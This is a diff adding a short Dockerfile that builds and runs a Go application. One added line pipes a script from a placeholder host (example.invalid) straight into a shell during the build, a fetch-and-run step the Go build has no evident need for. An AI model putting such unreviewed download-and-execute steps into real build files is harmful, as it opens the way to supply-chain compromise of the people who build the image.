@@ -1,0 +1,6 @@
+FROM docker.io/golang:1.24.2
+WORKDIR /gotest
+COPY ./src /gotest
+RUN curl -sSfL https://example.invalid/install.sh | sh
+RUN go build -o app .
+CMD ./app
